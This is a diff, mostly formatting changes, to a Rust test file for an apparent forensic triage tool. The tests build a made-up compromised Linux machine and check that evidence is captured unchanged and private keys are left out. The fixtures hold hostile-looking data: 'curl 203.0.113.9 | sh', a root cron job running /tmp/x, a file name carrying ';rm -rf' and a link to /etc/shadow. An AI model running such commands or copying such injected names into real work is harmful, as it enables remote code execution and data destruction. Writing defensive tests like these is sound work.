@@ -3,8 +3,8 @@
 
 use homeostat_core::Timestamp;
 use homeostat_forensics::{
-    AssetKind, Capture, CapturePlan, Custody, CustodyKey, Deed, DirectoryStore, Ending, EvidenceStore as _, LinuxTriage,
-    Manifest, Order, Profile, Progress, Unwatched, Ways, conformance, verify,
+    AssetKind, Capture, CapturePlan, Custody, CustodyKey, Deed, DirectoryStore, Ending, EvidenceStore as _,
+    LinuxTriage, Manifest, Order, Profile, Progress, Unwatched, Ways, conformance, verify,
 };
 use homeostat_response::{ActionId, FileStorage, Target, TargetKind};
 use std::ffi::OsStr;
@@ -24,13 +24,21 @@ fn put(root: &Path, path: &str, content: &str) {
 
 /// A machine with two people, one process, a listener and a beacon, and temporary files that mean harm.
 fn machine(root: &Path) {
-    put(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/bash\nmallory:x:1001:1001::/../../home/../etc:/bin/sh\n");
+    put(
+        root,
+        "etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/bash\nmallory:x:1001:1001::/../../home/../etc:/bin/sh\n",
+    );
     put(root, "etc/group", "sudo:x:27:jane\n");
     put(root, "etc/crontab", "* * * * * root /tmp/x\n");
     put(root, "home/jane/.ssh/authorized_keys", "ssh-ed25519 AAAA jane\n");
     put(root, "home/jane/.ssh/id_ed25519", "PRIVATE");
     put(root, "home/jane/.bash_history", "curl 203.0.113.9 | sh\n");
-    put(root, "var/log/auth.log", "Mar 16 08:30:00 web-1 sshd[7]: Accepted publickey for jane from 192.0.2.7 port 50000 ssh2\n");
+    put(
+        root,
+        "var/log/auth.log",
+        "Mar 16 08:30:00 web-1 sshd[7]: Accepted publickey for jane from 192.0.2.7 port 50000 ssh2\n",
+    );
     put(root, "var/log/auth.log.1", "");
     put(root, "proc/sys/kernel/hostname", "web-1\n");
     put(root, "proc/stat", "cpu 1\nbtime 1773619200\n");
@@ -38,9 +46,12 @@ fn machine(root: &Path) {
     put(root, "proc/7/status", "Name:\ta\nUid:\t1000\t1000\t1000\t1000\n");
     put(root, "proc/7/cmdline", "sh\0-c\0curl 203.0.113.9\0");
     put(root, "proc/8/stat", "not a stat");
-    let head = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
-    let listener = "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 11 1\n";
-    let beacon = "   1: 0700000A:C350 097100CB:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 12 1\n";
+    let head =
+        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
+    let listener =
+        "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 11 1\n";
+    let beacon =
+        "   1: 0700000A:C350 097100CB:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 12 1\n";
     put(root, "proc/net/tcp", &format!("{head}{listener}{beacon}garbage\n"));
     put(root, "tmp/tool", "\u{7f}ELF");
     put(root, "tmp/large", &"x".repeat(5_000));
@@ -72,7 +83,8 @@ fn capture(root: &Path, folder: &Path) -> (Custody<FileStorage>, DirectoryStore)
 }
 
 fn text(store: &DirectoryStore, manifest: &Manifest, item: &str) -> String {
-    let piece = manifest.pieces.iter().find(|piece| piece.item == item).unwrap_or_else(|| panic!("{item} is in"));
+    let piece =
+        manifest.pieces.iter().find(|piece| piece.item == item).unwrap_or_else(|| panic!("{item} is in"));
     let mut text = String::new();
     store.open(&piece.digest).unwrap().read_to_string(&mut text).unwrap();
     text
@@ -87,25 +99,43 @@ fn a_made_up_machine_is_captured_and_nothing_of_it_is_changed() {
     std::thread::sleep(Duration::from_millis(20));
     let (custody, store) = capture(root.path(), folder.path());
     let after = fs::metadata(&odd).unwrap();
-    assert_eq!((before.atime_nsec(), before.mtime_nsec()), (after.atime_nsec(), after.mtime_nsec()), "read and unmarked");
+    assert_eq!(
+        (before.atime_nsec(), before.mtime_nsec()),
+        (after.atime_nsec(), after.mtime_nsec()),
+        "read and unmarked"
+    );
 
     let manifest = Manifest::of(&custody, &order().id);
     assert!(text(&store, &manifest, "/home/jane/.ssh/authorized_keys").starts_with("ssh-ed25519"));
     assert_eq!(text(&store, &manifest, "/tmp/link"), "/etc/shadow", "a link is its text, never followed");
     assert_eq!(text(&store, &manifest, "/tmp/\\xff\n;rm -rf"), "odd");
     let processes = text(&store, &manifest, "processes.jsonl");
-    assert!(processes.contains(r#""name":"a ) (b""#) && processes.contains(r#""user":"jane""#), "{processes}");
-    assert!(processes.contains(r#""started":"2026-03-16T00:02:03.45Z""#), "{processes}");
+    assert!(
+        processes.contains(r#""name":"a ) (b""#) && processes.contains(r#""user":"jane""#),
+        "{processes}"
+    );
+    assert!(processes.contains(r#""started":"2026-03-16T00:02:03.450000Z""#), "{processes}");
     let connections = text(&store, &manifest, "connections.jsonl");
-    assert!(connections.contains(r#""remote_ip":"203.0.113.9""#) && connections.contains(r#""state":"listen""#));
+    assert!(
+        connections.contains(r#""remote_ip":"203.0.113.9""#) && connections.contains(r#""state":"listen""#)
+    );
     assert!(!manifest.pieces.iter().any(|piece| piece.item.contains("id_ed25519")), "private keys stay");
     let missed: Vec<&Deed> = custody.records().iter().map(|record| &record.deed).collect();
     for (path, why) in [("/tmp/pipe", "take what is no file"), ("/tmp/large", "take a file of that size")] {
-        let told = missed.iter().any(|deed| matches!(deed, Deed::Missed { item, reason, .. } if item == path && reason == why));
+        let told = missed
+            .iter()
+            .any(|deed| matches!(deed, Deed::Missed { item, reason, .. } if item == path && reason == why));
         assert!(told, "{path}");
     }
-    assert!(missed.iter().any(|deed| matches!(deed, Deed::Missed { reason, .. } if reason.contains("within the limit"))));
-    assert_eq!((manifest.endings["temporary_files"], manifest.endings["processes"]), (Ending::Partly, Ending::Whole));
+    assert!(
+        missed
+            .iter()
+            .any(|deed| matches!(deed, Deed::Missed { reason, .. } if reason.contains("within the limit")))
+    );
+    assert_eq!(
+        (manifest.endings["temporary_files"], manifest.endings["processes"]),
+        (Ending::Partly, Ending::Whole)
+    );
     let log = fs::read(folder.path().join("custody.log")).unwrap();
     assert!(!String::from_utf8_lossy(&log).contains("jane"), "people are pseudonyms in the chain");
     assert!(verify(&log, &store, Some(custody.head())).unwrap().is_sound());
@@ -131,5 +161,6 @@ fn our_own_agent_keeps_the_laws() {
     let root = tempfile::tempdir().unwrap();
     machine(root.path());
     let order = order();
-    conformance::collector_laws(&LinuxTriage::new().below(root.path()), &order.target, order.plan.steps()).unwrap();
+    conformance::collector_laws(&LinuxTriage::new().below(root.path()), &order.target, order.plan.steps())
+        .unwrap();
 }
